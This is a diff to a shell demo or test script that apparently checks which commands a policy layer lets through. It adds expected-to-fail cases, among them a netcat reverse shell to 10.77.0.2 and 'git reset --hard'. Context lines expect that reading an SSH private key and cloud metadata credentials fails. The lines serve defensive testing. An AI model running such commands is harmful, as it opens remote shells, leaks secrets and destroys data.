@@ -37,6 +37,12 @@ step works 'python3 test_tally.py'
 step works 'curl --silent --show-error --fail http://127.0.0.1:8080/hello.txt'
 step works 'git commit --quiet -a -m "Report read errors" && git log --oneline | head -n 1'
 
+printf '\n%sWhat waits in the kernel: for policy, and where that does not know for a person%s\n' "$bold" "$plain"
+step works 'git init --quiet --bare remote.git && git push --quiet remote.git main && echo "policy let it go on"'
+step fails 'bash -c "nc 10.77.0.2 443 -e /bin/sh"'
+step works 'git push --quiet --force remote.git main && echo "somebody approved it"'
+step fails 'git reset --hard HEAD~1'
+
 printf '\n%sWhat nobody asked for%s\n' "$bold" "$plain"
 step fails 'cat ~/.ssh/id_ed25519'
 step fails 'curl --silent --show-error --max-time 5 http://169.254.169.254/latest/meta-data/iam/security-credentials/'
